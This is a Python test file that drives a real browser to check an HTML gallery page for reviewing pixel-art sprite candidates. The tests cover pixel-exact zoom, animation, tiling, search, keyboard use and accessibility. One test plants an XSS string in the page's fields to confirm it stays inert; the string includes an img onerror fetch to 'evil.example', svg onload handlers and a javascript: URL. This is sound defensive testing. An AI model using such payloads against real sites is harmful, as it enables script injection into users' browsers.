"""The page in a real browser: what is seen is compared pixel by pixel with the sprites."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, ImageColor

from pixelrouter.assets.asset import Asset
from pixelrouter.assets.gallery import gather, page
from pixelrouter.assets.lock import Candidate, Lock, Locked, Pick, Price
from pixelrouter.assets.sprite import Sprite
from tests.assets.gallery.browser import Browser
from tests.assets.gallery.conftest import saved
from tests.assets.gallery.game import Game

MAGENTA = (255, 0, 255)


def opened(browser: Browser, game: Game, folder: Path) -> Browser:
    browser.open(saved(page(gather(game.manifest, game.lock, game.draw, changed={"sword": "why"})), folder))
    return browser


def sprite_of(game: Game, name: str, number: int = 1) -> Sprite:
    return game.draw(game.assets[name], game.locked[name].candidates[number - 1])[0]


def on_magenta(image: Image.Image, factor: int = 1) -> Image.Image:
    """The image as it looks on the magenta ground, enlarged by repeating pixels."""
    rgba = image.convert("RGBA")
    ground = Image.new("RGBA", rgba.size, (*MAGENTA, 255))
    seen = Image.alpha_composite(ground, rgba).convert("RGB")
    return seen.resize((seen.width * factor, seen.height * factor), Image.Resampling.NEAREST)


def same(seen: Image.Image, wanted: Image.Image) -> bool:
    return seen.size == wanted.size and seen.tobytes() == wanted.tobytes()


def shows(browser: Browser, selector: str, wanted: Image.Image, at: tuple[int, int] = (0, 0)) -> bool:
    """Whether an element shows exactly these pixels, ``at`` pixels from its corner.

    An element may lie between two pixels of the screen: the browser then paints it up to two beside, as it thinks best.
    """
    density = browser.run("devicePixelRatio")
    x, y, _, _ = (int(side * density) for side in browser.box(selector))
    whole = browser.picture()
    places = ((x + at[0] + right, y + at[1] + down) for right in range(-2, 3) for down in range(-2, 3))
    return any(
        same(whole.crop((*place, place[0] + wanted.width, place[1] + wanted.height)), wanted) for place in places
    )


def picture_in(browser: Browser, name: str, number: int = 1) -> str:
    """The selector of a candidate's stage, once it is drawn."""
    selector = f'[data-name="{name}"] [data-number="{number}"] .stage'
    browser.box(f'[data-name="{name}"]')
    browser.wait(f"!!document.querySelector({json.dumps(selector)})")
    browser.box(selector)
    return selector


def clean(browser: Browser) -> bool:
    """Nothing was asked for but the page itself, and nothing complained."""
    return len(browser.requests) == 1 and browser.requests[0].startswith("file:") and not browser.complaints


def test_zoom_shows_whole_pixels_exactly(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    browser.click(".grounds [data-value=magenta]")
    for factor in (1, 8, 4):
        browser.click(f".zoom [data-value='{factor}']")
        stage = picture_in(browser, "potion-red", 2)
        assert browser.box(stage)[2:] == (32 * factor, 32 * factor)
        assert shows(browser, stage, on_magenta(sprite_of(game, "potion-red", 2).sheet, factor)), factor
    assert clean(browser)


@pytest.mark.slow
@pytest.mark.parametrize(("density", "shown"), [(1.25, 5), (1.5, 6), (2, 8), (3, 12)])
def test_every_screen_shows_whole_pixels(
    browser: Browser, game: Game, tmp_path: Path, density: float, shown: int
) -> None:
    browser.size(900, 700, density)
    opened(browser, game, tmp_path)
    browser.click(".grounds [data-value=magenta]")
    stage = picture_in(browser, "potion-red")
    assert browser.run(f"document.querySelector({json.dumps(stage)}).offsetWidth * devicePixelRatio") == 32 * shown
    assert shows(browser, stage, on_magenta(sprite_of(game, "potion-red").sheet, shown))


@pytest.mark.slow
def test_films_play_in_their_own_time_and_step_by_step(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    browser.click(".grounds [data-value=magenta]")
    stage = picture_in(browser, "slime-walk")
    frame = f"document.querySelector({json.dumps(stage)}).dataset.frame"
    for at in "0123":
        browser.wait(f"{frame} === '{at}'")
    browser.click(".play-all")
    still = browser.run(frame)
    browser.run("new Promise((done) => setTimeout(done, 400))")
    assert browser.run(frame) == still
    frames = [on_magenta(one, 4) for one in sprite_of(game, "slime-walk").frames]
    assert shows(browser, stage, frames[int(still)])

    browser.click('[aria-label="Open slime-walk, candidate 1"]')
    browser.wait("document.querySelector('#overlay').open && !!view.stage.image")
    browser.press(".")
    assert browser.run("document.querySelector('#overlay .play').textContent") == "Play"
    seen = []
    for _ in range(4):
        seen.append(browser.run("Number(view.stage.element.dataset.frame)"))
        zoomed = on_magenta(sprite_of(game, "slime-walk").frames[seen[-1]], browser.run("view.zoom"))
        assert shows(browser, "#overlay .stage", zoomed)
        browser.press(".")
    assert sorted(seen) == [0, 1, 2, 3]
    assert "ms" in browser.run("document.querySelector('#overlay .frame').textContent")
    browser.press(" ")
    for at in "0123":
        browser.wait(f"view.stage.element.dataset.frame === '{at}'")
    assert clean(browser)


@pytest.mark.slow
def test_the_onion_skin_shows_the_frame_before(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    browser.click(".grounds [data-value=magenta]")
    picture_in(browser, "slime-walk")
    browser.click('[aria-label="Open slime-walk, candidate 1"]')
    browser.wait("!!view.stage.image")
    browser.press(".")
    before = browser.picture("#overlay .stage")
    browser.press("o")
    after = browser.picture("#overlay .stage")
    assert not same(before, after)
    place = browser.run("view.stage.place")
    figure = sprite_of(game, "slime-walk").frames[place].convert("RGBA").getchannel("A")
    mask = figure.resize(before.size, Image.Resampling.NEAREST)
    for image in (before, after):  # what the frame itself covers is as it was
        image.paste((0, 0, 0), mask=Image.eval(mask, lambda alpha: 255 - alpha))
    assert same(before, after)


@pytest.mark.slow
def test_tiling_shows_nine_copies(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    browser.click(".tiling [data-value=tiles]")
    tile = on_magenta(sprite_of(game, "grass", 2).sheet, 4)
    nine = Image.new("RGB", (tile.width * 3, tile.height * 3))
    for at in range(9):
        nine.paste(tile, (at % 3 * tile.width, at // 3 * tile.height))
    assert shows(browser, picture_in(browser, "grass", 2), nine)
    sword = browser.picture(picture_in(browser, "sword"))
    assert sword.size == (128, 128)  # no tile
    browser.click(".tiling [data-value=all]")
    assert browser.picture(picture_in(browser, "sword")).size == (384, 384)


@pytest.mark.slow
def test_corner_tiles_make_a_country(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    browser.click(".tiling [data-value=tiles]")
    stage = picture_in(browser, "shore")
    sprite = sprite_of(game, "shore")
    assert browser.box(stage)[2:] == (9 * 16 * 4, 6 * 16 * 4)
    names = dict(zip(sprite.names, sprite.frames, strict=True))
    assert shows(browser, stage, on_magenta(names["wang-0000"], 4), (0, 0))
    assert shows(browser, stage, on_magenta(names["wang-1111"], 4), (192, 128))


@pytest.mark.slow
def test_views_stand_as_on_a_map(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    browser.click(".grounds [data-value=magenta]")
    stage = picture_in(browser, "knight")
    sprite = sprite_of(game, "knight")
    spots = {"north-west": (0, 0), "north": (1, 0), "east": (2, 1), "south": (1, 2), "south-west": (0, 2)}
    for name, (column, row) in spots.items():
        view = on_magenta(sprite.frames[sprite.names.index(name)], 4)
        assert shows(browser, stage, view, (column * 128, row * 128)), name


@pytest.mark.slow
def test_search_filter_and_sort(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    names = "[...document.querySelectorAll('.card')].map((card) => card.dataset.name)"
    assert browser.run(names) == [*game.assets]
    browser.type("#search", "GOLD")
    assert browser.run(names) == ["sword", "key"]  # the word is in their prompts
    assert browser.run("document.querySelector('#shown').textContent") == "2 assets shown"

    def choose(field: str, value: str) -> list[str]:
        browser.run(
            f"(() => {{ const e = document.getElementById('{field}'); e.value = '{value}'; "
            "e.dispatchEvent(new Event('change')); })()"
        )
        found: list[str] = browser.run(names)
        return found

    browser.run("document.querySelector('#search').select()")
    browser.press("Backspace")
    browser.run(
        "(() => { const e = document.querySelector('#search'); e.value = ''; e.dispatchEvent(new Event('input')); })()"
    )
    assert choose("style", "ground") == ["grass", "shore", "lava"]
    assert choose("style", "*") == [*game.assets]
    assert choose("state", "unpicked") == ["sword", "key", "slime-walk", "shore"]
    assert choose("state", "missing") == ["lava"]
    assert choose("state", "changed") == ["sword"]
    assert choose("state", "warnings") == ["key"]
    assert choose("state", "*") == [*game.assets]
    assert choose("sort", "name")[:4] == ["key", "potion-red", "shield", "sword"]
    assert choose("sort", "cost")[:4] == ["potion-red", "sword", "key", "shield"]
    assert clean(browser)


@pytest.mark.slow
def test_picks_are_collected_and_copied(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    browser.run("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
    for name, number in (("sword", 2), ("potion-red", 3), ("sword", 3)):
        picture_in(browser, name, number)
        browser.click(f'[aria-label="Pick {name}, candidate {number}"]')
    browser.click(".copy-all")
    wanted = "pixelrouter pick potion-red 3\npixelrouter pick sword 3\n"
    assert browser.wait("window.copied") == wanted
    browser.call("Page.reload")
    browser.wait("document.readyState === 'complete' && !!document.querySelector('#tray pre')")
    assert browser.run("document.querySelector('#tray pre').textContent") == wanted.rstrip()
    browser.click("#tray .clear")
    assert browser.run("document.querySelector('#tray').hidden")


@pytest.mark.slow
def test_the_keyboard_is_enough(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    picture_in(browser, "potion-red")
    browser.run("document.querySelector('[aria-label=\"Open potion-red, candidate 1\"]').focus()")
    browser.press("Enter")
    browser.wait("document.querySelector('#overlay').open")
    browser.press("ArrowRight")
    label = "document.querySelector('#overlay').getAttribute('aria-label')"
    assert browser.run(label) == "potion-red, candidate 2"
    browser.press("g")
    assert browser.run("view.stage.element.classList.contains('grid')")
    browser.press("p")
    assert "pixelrouter pick potion-red 2" in browser.run("document.querySelector('#tray pre').textContent")
    browser.press("Escape")
    browser.wait("!document.querySelector('#overlay').open")
    assert browser.run("document.activeElement.getAttribute('aria-label')") == "Open potion-red, candidate 1"
    browser.press("/")
    assert browser.run("document.activeElement.id") == "search"


@pytest.mark.slow
def test_everything_has_a_name_for_those_who_do_not_see_it(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    picture_in(browser, "potion-red")
    images = browser.run("[...document.images].map((image) => image.alt)")
    assert "potion-red, candidate 4" in images
    assert all(images)
    browser.call("Accessibility.enable")
    nodes: list[dict[str, Any]] = browser.call("Accessibility.getFullAXTree")["nodes"]
    roles = {"button", "combobox", "searchbox", "image", "img", "slider", "meter", "dialog"}
    nameless = [
        node for node in nodes
        if not node.get("ignored") and node["role"]["value"] in roles and not node.get("name", {}).get("value")
    ]  # fmt: skip
    assert not nameless


@pytest.mark.slow
def test_a_swatch_copies_its_colour(browser: Browser, game: Game, tmp_path: Path) -> None:
    opened(browser, game, tmp_path)
    browser.run("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
    picture_in(browser, "potion-red")
    swatch = '[data-name="potion-red"] .swatches button'
    browser.click(swatch)
    color = browser.wait("window.copied")
    assert color in (game.assets["potion-red"].palette or ())
    seen = browser.picture(swatch).getpixel((8, 8))
    assert seen == ImageColor.getrgb(color)


@pytest.mark.slow
@pytest.mark.parametrize("width", [320, 390, 1920])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_fits_any_window_and_either_scheme(
    browser: Browser, game: Game, tmp_path: Path, width: int, scheme: str
) -> None:
    browser.size(width, 800)
    browser.prefer(prefers_color_scheme=scheme)
    opened(browser, game, tmp_path)
    picture_in(browser, "potion-red")
    assert browser.run("document.documentElement.scrollWidth") <= width
    back = browser.run("getComputedStyle(document.body).backgroundColor")
    channels = [int(part) for part in back.removeprefix("rgb(").removesuffix(")").split(",")]
    assert (max(channels) < 60) is (scheme == "dark")
    assert clean(browser)


HOSTILE = (
    "</script><img src=x onerror=fetch('https://evil.example')><svg onload=alert(1)>\"'`${alert(1)}\u202e\u2066&amp;"
)


@pytest.mark.slow
def test_hostile_words_do_nothing(browser: Browser, game: Game, tmp_path: Path) -> None:
    potion = game.locked["potion-red"]
    names = [HOSTILE, "javascript:alert(1)", "__proto__", "constructor", "%", "$&"]
    assets = {
        name: replace(game.assets["potion-red"], name=name, prompt=HOSTILE, style=name, palette_name=HOSTILE)
        for name in names
    }
    bad = tuple(
        replace(one, backend=HOSTILE, model=HOSTILE, job=HOSTILE, warnings=(HOSTILE,), bought=HOSTILE)
        for one in potion.candidates
    )
    lock = Lock({name: replace(potion, candidates=bad, pick=Pick(1, HOSTILE), style=name) for name in names})
    manifest = replace(game.manifest, project=replace(game.manifest.project, name=HOSTILE), assets=assets)
    browser.open(saved(page(gather(manifest, lock, game.draw)), tmp_path))
    browser.wait("document.querySelectorAll('.shot').length >= 4")
    browser.click(".shot .open")
    browser.wait("document.querySelector('#overlay').open")
    browser.press("Escape")
    assert browser.run("document.querySelectorAll('svg, img[src=x], script').length") == 2  # the page's own two scripts
    assert "\u202e" not in browser.run("document.body.textContent")
    assert HOSTILE.replace("\u202e", "\ufffd").replace("\u2066", "\ufffd") in browser.run("document.body.textContent")
    assert clean(browser)


@pytest.mark.slow
def test_thousands_of_assets_stay_usable(browser: Browser, tmp_path: Path) -> None:
    """What is far away is not in the document, and finding one of 5,000 shows that one."""
    art = Image.new("P", (16, 16))
    art.putpalette([200, 30, 30])
    candidate = Candidate(1, "k", "procedural", None, 1, ("0" * 64,), Price("0.01"))
    assets = {f"asset-{at}": Asset(f"asset-{at}", "a thing", (16, 16), style=f"style-{at % 7}") for at in range(5000)}
    two = tuple(replace(candidate, number=number) for number in (1, 2))
    lock = Lock({name: Locked("w", two, Pick(1), "f", "x", "s") for name in assets})
    manifest = replace(Game(tmp_path).manifest, assets=assets)
    html = page(gather(manifest, lock, lambda asset, _: (Sprite(asset.name, (art,), ("#c81e1e",)), ())))
    browser.open(saved(html, tmp_path))
    browser.wait("document.querySelectorAll('.shot').length > 0")
    assert browser.run("document.querySelectorAll('.card').length") == 5000
    assert browser.run("document.querySelectorAll('.shot').length") < 300
    browser.run("scrollTo(0, document.body.scrollHeight / 2)")
    browser.wait(
        "[...document.querySelectorAll('.shot')].some((shot) => { const b = shot.getBoundingClientRect(); "
        "return b.top >= 0 && b.bottom <= innerHeight; })"
    )
    browser.wait("document.querySelectorAll('.shot').length < 300")
    browser.type("#search", "asset-4321")
    browser.wait("document.querySelectorAll('.card').length === 1 && document.querySelectorAll('.shot').length === 2")
    assert clean(browser)
